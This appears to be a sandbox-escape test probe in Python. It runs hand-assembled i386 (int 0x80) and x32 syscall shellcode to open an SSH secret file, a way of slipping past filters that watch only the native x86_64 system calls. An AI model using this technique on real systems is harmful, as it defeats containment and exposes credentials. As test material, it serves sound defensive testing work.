"""Call the kernel by the tables of other architectures (i386, x32)."""

import ctypes
import mmap
import os
import platform

from kit import WORLD, blocked, escaped, is_secret

if platform.machine() != "x86_64":
    blocked("this machine has one table only")

# The path must lie below 4 GB: both tables know 32-bit pointers.
page = mmap.mmap(-1, 8192, prot=7, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)  # MAP_32BIT
base = ctypes.addressof(ctypes.c_char.from_buffer(page))
path = WORLD["ssh"].encode() + b"\0"
page[4096 : 4096 + len(path)] = path
address = (base + 4096).to_bytes(4, "little")
# open(path, O_RDONLY): int 0x80 with eax=5; and syscall with rax=0x40000002
I386 = b"\x53\xb8\x05\x00\x00\x00\xbb" + address + b"\x31\xc9\x31\xd2\xcd\x80\x5b\xc3"
X32 = b"\xb8\x02\x00\x00\x40\xbf" + address + b"\x31\xf6\x31\xd2\x0f\x05\xc3"


def read_secret(code: bytes) -> bool:
    page[: len(code)] = code
    descriptor = ctypes.CFUNCTYPE(ctypes.c_int)(base)()
    return descriptor >= 0 and is_secret(os.read(descriptor, 200))


ends = []
for code in (I386, X32):
    child = os.fork()
    if child == 0:
        os._exit(0 if read_secret(code) else 1)
    ends.append(os.waitpid(child, 0)[1])
if 0 in ends:
    escaped(f"ends {ends}")
blocked(f"ends {ends}")
